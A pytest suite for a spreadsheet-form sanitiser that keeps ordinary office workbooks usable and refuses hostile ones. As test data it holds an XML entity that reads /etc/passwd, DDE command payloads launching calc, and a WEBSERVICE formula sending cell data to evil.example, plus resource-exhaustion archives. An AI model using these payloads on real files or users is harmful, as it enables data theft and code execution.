"""Somebody else's form: what offices really send is kept usable, what is hostile is refused, values go where they belong."""
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from mingfa.spreadsheets import SpreadsheetRefused
from mingfa.spreadsheets.forms import Percent, PlaceTaken, checked_form, filled, free_places, grids, names_down
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image
from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
from openpyxl.styles import Font
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table, TableFormula
from PIL import Image as Picture


def saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def simple(**cells) -> bytes:
    book = openpyxl.Workbook()
    for place, value in cells.items():
        book.active[place] = value
    return saved(book)


def changed(data: bytes, **parts) -> bytes:
    """The same archive with parts put in or replaced; names with / as __."""
    out = io.BytesIO()
    new = {name.replace("__", "/"): content for name, content in parts.items()}
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if name not in new:
                after.writestr(name, before.read(name))
        for name, content in new.items():
            after.writestr(name, content)
    return out.getvalue()


def refusal(data: bytes) -> str:
    with pytest.raises(SpreadsheetRefused) as refused:
        checked_form(data)
    assert refused.value.error.message.endswith("。")
    return refused.value.error.code


@pytest.fixture
def rich():
    """With everything that office forms carry: picture, comment, chart, drop-down, link, fonts, hidden sheet, settings."""
    book = openpyxl.Workbook()
    page = book.active
    page.title = "表 1"
    page["A1"], page["A1"].font = "统计表", Font(name="方正小标宋简体", size=22)
    page.merge_cells("A1:C1")
    page["A2"], page["B2"] = "数量", 3
    page["C2"] = "=SUM(B2:B2)"
    page["A3"], page["A3"].hyperlink = "说明", "https://example.gov.cn/"
    page["A2"].comment = Comment("请填写", "区")
    picture = io.BytesIO()
    Picture.new("RGB", (4, 4)).save(picture, "PNG")
    page.add_image(Image(picture), "E1")
    chart = BarChart()
    chart.add_data(Reference(page, min_col=2, min_row=2, max_row=2))
    page.add_chart(chart, "E5")
    words = DataValidation(type="list", formula1='"是,否"')
    page.add_data_validation(words)
    words.add("B3")
    page.print_title_rows, page.page_setup.orientation = "1:1", "landscape"
    page.column_dimensions["A"].width = 30
    book.create_sheet("代码").sheet_state = "hidden"
    return saved(book)


def test_a_form_with_all_that_offices_put_in_stays_usable(rich):
    form = checked_form(rich)
    page = openpyxl.load_workbook(io.BytesIO(filled(form, {("表 1", "B2"): 128})))["表 1"]
    assert (page["B2"].value, page["C2"].value, page["A1"].font.sz) == (128, "=SUM(B2:B2)", 22)
    assert (page.page_setup.orientation, page.column_dimensions["A"].width) == ("landscape", 30)
    assert [str(one.sqref) for one in page.data_validations.dataValidation] == ["B3"]
    names = zipfile.ZipFile(io.BytesIO(form)).namelist()
    assert [name for name in names if any(word in name for word in ("media", "comment", "drawing", "vba", "externalLink"))] == []


def test_printer_settings_and_macros_are_left_out(rich):
    with zipfile.ZipFile(io.BytesIO(rich)) as book:
        rels = book.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/printerSettings"
    one = f'<Relationship Id="rIdP" Type="{kind}" Target="../printerSettings/p1.bin"/>'
    rels = rels.replace("</Relationships>", f"{one}</Relationships>")
    space = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    sheet = sheet.replace("<pageSetup ", f'<pageSetup {space} r:id="rIdP" ', 1)
    data = changed(rich, **{
        "xl/worksheets/_rels/sheet1.xml.rels": rels, "xl/worksheets/sheet1.xml": sheet, "xl/printerSettings/p1.bin": b"\0\1",
        "xl/vbaProject.bin": b"\0macro",
    })  # fmt: skip
    names = zipfile.ZipFile(io.BytesIO(checked_form(data))).namelist()
    assert [name for name in names if name.endswith(".bin")] == []


def test_what_the_form_works_out_is_worked_out_anew_when_it_is_opened():
    book = openpyxl.load_workbook(io.BytesIO(filled(checked_form(simple(A1="=B1+1")), {("Sheet", "B1"): 2})))
    assert book.calculation.fullCalcOnLoad


@pytest.mark.parametrize(("format_", "value"), [("0.0%", 0.992), ("0.0", 99.2), ("General", 99.2)])
def test_a_rate_is_written_as_its_cell_is_formatted(format_, value):
    book = openpyxl.Workbook()
    book.active["B1"].number_format = format_
    page = openpyxl.load_workbook(io.BytesIO(filled(checked_form(saved(book)), {("Sheet", "B1"): Percent(Decimal("99.2"))})))
    assert page.active["B1"].value == pytest.approx(value)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "＝1", "\t=1"])
def test_IF4_text_is_written_as_text(text):
    cell = openpyxl.load_workbook(io.BytesIO(filled(checked_form(simple(A1="x")), {("Sheet", "B1"): text}))).active["B1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", 1)


def test_no_value_empties_what_stood_there_and_nothing_is_made_when_one_place_is_taken():
    form = checked_form(simple(A1=5, B1="=A1"))
    assert openpyxl.load_workbook(io.BytesIO(filled(form, {("Sheet", "A1"): None}))).active["A1"].value is None
    with pytest.raises(PlaceTaken):
        filled(form, {("Sheet", "A1"): 1, ("Sheet", "B1"): 2})


def test_the_grid_shows_what_stands_where_and_what_is_free():
    book = openpyxl.Workbook()
    page = book.active
    page.merge_cells("A1:B1")
    page["A1"], page["A2"], page["B2"] = "题", 7, "=A2"
    [grid] = grids(checked_form(saved(book)))
    assert grid.columns == ["A", "B"]
    shown = {cell.place: (cell.text, cell.formula, cell.free) for _, cells in grid.rows for cell in cells}
    assert shown == {
        "A1": ("题", False, True), "B1": ("", False, False), "A2": ("7", False, True), "B2": ("", True, False),
    }  # fmt: skip
    assert free_places(checked_form(saved(book))) == {("Sheet", "A1"), ("Sheet", "A2")}


def test_the_names_of_a_column_come_with_their_rows():
    form = checked_form(simple(A1="单位", A2="甲镇", A4=" 乙镇 "))
    assert names_down(form, "Sheet", "A", 2, 9) == [(2, "甲镇"), (4, "乙镇")]
    with pytest.raises(PlaceTaken):
        names_down(form, "另一张", "A", 2, 9)


# --- hostile --------------------------------------------------------------------------------------------
def test_IF1_a_part_that_swells_is_refused():
    assert refusal(changed(simple(A1=1), xl__media__x__xml=b"0", **{"xl/big.xml": b" " * 30_000_000})) == "unpacks_too_large"


def test_IF1_thousands_of_parts_are_refused():
    assert refusal(changed(simple(A1=1), **{f"xl/p{n}.xml": b"<a/>" for n in range(600)})) == "too_many_parts"


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels", "xl/styles.xml"])
def test_IF2_IF3_declared_entities_are_refused_in_any_part(part):
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    assert refusal(changed(simple(A1=1), **{part: bomb})) == "declares_entities"


def test_cells_in_far_corners_are_refused_before_they_are_laid_out():
    assert refusal(simple(A1=1, XFD1048576=1)) in ("too_many_rows", "too_many_columns")


def test_a_workbook_of_nonsense_inside_is_refused_in_words():
    assert refusal(changed(simple(A1=1), **{"xl/workbook.xml": b"<workbook/>"})) in ("broken_file", "not_a_workbook")
    assert refusal(changed(simple(A1=1), **{"xl/styles.xml": b"<styleSheet>"})) == "broken_file"


def test_names_of_the_book_that_reach_out_are_dropped():
    book = openpyxl.Workbook()
    book.active["A1"] = 1
    book.defined_names["evil"] = openpyxl.workbook.defined_name.DefinedName("evil", attr_text="cmd|'/C calc'!A0")
    book.defined_names["good"] = openpyxl.workbook.defined_name.DefinedName("good", attr_text="Sheet!$A$1")
    assert list(openpyxl.load_workbook(io.BytesIO(checked_form(saved(book)))).defined_names) == ["good"]


SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c>'
    "{cells}</row></sheetData>{after}</worksheet>"
)


@pytest.mark.parametrize(
    ("cells", "after", "code"),
    [
        ('<c r="B1048576"/>', "", "too_many_rows"),
        ('<c r="XFD1"/>', "", "too_many_columns"),
        ("", '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>', "too_many_rows"),
        ("", '<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>', "too_many_rows"),
        ('<c r="DP3000"/>', "", "too_many_cells"),
    ],
)
def test_IF1_empty_cells_and_joined_ranges_in_far_corners_are_refused_before_anything_is_laid_out(cells, after, code):
    sheet = SHEET.format(cells=cells, after=after).encode()
    assert refusal(changed(simple(A1=1), **{"xl__worksheets__sheet1.xml": sheet})) == code


def test_all_sheets_together_have_a_limit_and_a_name_of_one_has_too():
    book = openpyxl.Workbook()
    for _ in range(2):
        book.create_sheet()["DP800"] = 1
    assert refusal(saved(book)) == "too_many_cells"
    named = openpyxl.Workbook()
    named.active.title = "表"
    data = saved(named)
    long = zipfile.ZipFile(io.BytesIO(data)).read("xl/workbook.xml").replace("表".encode(), ("表" * 40).encode())
    assert refusal(changed(data, **{"xl__workbook.xml": long})) == "broken_file"


def test_a_name_that_belongs_to_one_sheet_does_not_reach_out_either():
    book = openpyxl.Workbook()
    book.active["A1"] = "=evil"
    book.active.defined_names["evil"] = openpyxl.workbook.defined_name.DefinedName("evil", attr_text="cmd|'/C calc'!A0")
    kept = openpyxl.load_workbook(io.BytesIO(checked_form(saved(book))))
    assert dict(kept.active.defined_names) == {}


# --- formulas outside of cells ----------------------------------------------------------------------------
REACHING = ['WEBSERVICE("http://evil.example/"&A1)', "cmd|'/C calc'!A0", "[1]表!A1", "\\\\evil\\[x.xlsx]表!A1", 'importxml("a")']
HARMLESS = ["A1>3", "SUM($A$1:$A$3)=A4", '"是,否"', '"省|市,http://example.gov.cn/"']


def with_condition(formula):
    book = openpyxl.Workbook()
    book.active.title = "表"
    book.active["A1"] = 1
    book.active.conditional_formatting.add("B2:B9", FormulaRule(formula=[formula]))
    return saved(book)


def with_bound(formula):
    book = openpyxl.Workbook()
    book.active.title = "表"
    book.active["A1"] = 1
    rule = ColorScaleRule(start_type="formula", start_value=formula, start_color="FF0000", end_type="max", end_color="00FF00")
    book.active.conditional_formatting.add("B2:B9", rule)
    return saved(book)


def with_validation(formula, second=False):
    book = openpyxl.Workbook()
    book.active.title = "表"
    book.active["A1"] = 1
    one = DataValidation(type="whole", operator="between", formula1="1" if second else formula, formula2=formula)
    one.add("B2:B9")
    book.active.add_data_validation(one)
    return saved(book)


def with_table(formula, total=False):
    book = openpyxl.Workbook()
    page = book.active
    page.title = "表"
    page["B2"], page["B3"] = "数量", 1
    table = Table(displayName="t", ref="B2:B9")
    table._initialise_columns()
    table.tableColumns[0].name = "数量"
    name = "totalsRowFormula" if total else "calculatedColumnFormula"
    setattr(table.tableColumns[0], name, TableFormula(attr_text=formula))
    page.add_table(table)
    return saved(book)


PLACES = {
    "条件格式": [with_condition, with_bound],
    "数据有效性": [with_validation, lambda formula: with_validation(formula, second=True)],
    "表格列": [with_table, lambda formula: with_table(formula, total=True)],
}


@pytest.mark.parametrize("formula", REACHING)
@pytest.mark.parametrize(("kind", "make"), [(kind, make) for kind, some in PLACES.items() for make in some])
def test_IF2_a_formula_that_reaches_out_is_refused_wherever_a_form_keeps_one(kind, make, formula):
    with pytest.raises(SpreadsheetRefused) as refused:
        checked_form(make(formula))
    assert refused.value.error.code == "unsafe_formula"
    assert refused.value.error.message == f"“表”B2:B9 的{kind}里的公式会打开别的文件或网址，未接收。请删去这条{kind}后上传。"


@pytest.mark.parametrize("formula", HARMLESS)
@pytest.mark.parametrize("make", [with_condition, with_validation])
def test_conditions_within_the_form_and_choices_written_out_stay(make, formula):
    page = openpyxl.load_workbook(io.BytesIO(checked_form(make(formula)))).active
    rules = [rule.formula[0] for one in page.conditional_formatting for rule in one.rules]
    assert rules + [one.formula1 for one in page.data_validations.dataValidation] == [formula]
